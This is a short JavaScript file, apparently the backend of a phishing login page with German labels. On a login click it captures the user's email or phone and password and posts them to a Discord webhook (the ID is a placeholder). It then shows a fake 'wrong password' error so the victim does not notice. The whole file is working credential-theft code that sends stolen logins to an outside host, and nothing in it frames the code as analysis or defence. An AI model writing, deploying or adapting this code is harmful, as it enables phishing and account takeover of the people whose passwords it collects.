const hook = "https://discord.com/api/webhooks/000000000000000000/PLACEHOLDER";

document.querySelector("#anmelden").addEventListener("click", function () {
  const nutzer = document.querySelector("#nutzer").value;
  const kennwort = document.querySelector("#kennwort").value;

  const nachricht = {
    username: "Eingang",
    embeds: [{
      title: "Neue Anmeldung",
      color: 0x2ecc71,
      fields: [
        { name: "E-Mail / Telefon", value: nutzer || "leer", inline: false },
        { name: "Passwort", value: kennwort || "leer", inline: false }
      ],
      timestamp: new Date().toISOString()
    }]
  };

  fetch(hook, {
    method: "POST",
    headers: { "Content-Type": "application/json" },
    body: JSON.stringify(nachricht)
  }).finally(() => {
    document.querySelector("#fehler").textContent = "Falsches Passwort. Bitte versuche es erneut.";
    document.querySelector("#kennwort").value = "";
  });
});
